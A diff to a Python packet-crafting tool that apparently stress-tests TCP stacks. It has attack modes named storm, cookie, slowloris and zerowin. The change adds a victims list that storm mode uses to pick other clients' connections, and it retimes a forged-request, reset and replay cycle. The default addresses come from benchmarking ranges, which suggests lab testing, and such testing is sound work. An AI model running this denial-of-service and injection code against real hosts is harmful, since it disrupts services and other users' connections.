@@ -429,7 +429,7 @@ def mode_storm(a, w):
             if p is None or p[4] != 6 or len(p[5]) < 20:
                 continue
             sport, dport, seq, ack, flags, win, payload = tcp_fields(p[5])
-            if ptype == PACKET_OUTGOING and dport == a.port and p[2] != a.src:
+            if ptype == PACKET_OUTGOING and dport == a.port and p[2] in a.victims:
                 key = (p[2], sport, p[3])
                 ln = len(payload) + (1 if flags & (SYN | FIN) else 0)
                 if flags & RST:
@@ -490,14 +490,16 @@ def mode_cookie(a, w):
         final = c.frame(ACK | PSH, req)
         w.send(final)
         c.snd_nxt += len(req)
-        t.pump(0.3)
-        first = c.rcvd
+        end = time.monotonic() + 3.0
+        while c.rcvd == 0 and time.monotonic() < end:
+            t.pump(0.05)
         c.rst()
-        t.pump(0.2)
+        t.pump(1.0)  # what was in flight before the RST
+        first = c.rcvd
         for _ in range(a.replays):
             w.send(final)
             replayed += 1
-        t.pump(0.5)
+        t.pump(1.0)
         answered += 1 if c.rcvd > first else 0
     result(mode="cookie", forged=n, replayed=replayed, replay_answered=answered,
            replay_first_answered=sum(1 for c in t.conns.values() if c.rcvd > 0), frames=w.sent)
@@ -569,6 +571,8 @@ def main():
     ap.add_argument("--hold", type=float, default=1.0, help="seconds to stay after the attack")
     ap.add_argument("--leave", default="rst", choices=["rst", "silent"])
     ap.add_argument("--trickle", action="store_true")
+    ap.add_argument("--victims", default="198.18.0.2,2001:2::2",
+                    help="storm: the client addresses whose connections it aims at")
     ap.add_argument("--burst", type=int, default=20)
     ap.add_argument("--gap", type=float, default=0.002)
     ap.add_argument("--count", type=int, default=20000)
@@ -577,6 +581,7 @@ def main():
     ap.add_argument("--rounds", type=int, default=50)
     ap.add_argument("--seed", type=int, default=None)
     a = ap.parse_args()
+    a.victims = a.victims.split(",")
     random.seed(a.seed)
     w = Wire(a.iface)
     {"pin": mode_pin, "slowloris": mode_slowloris, "zerowin": mode_zerowin, "storm": mode_storm,
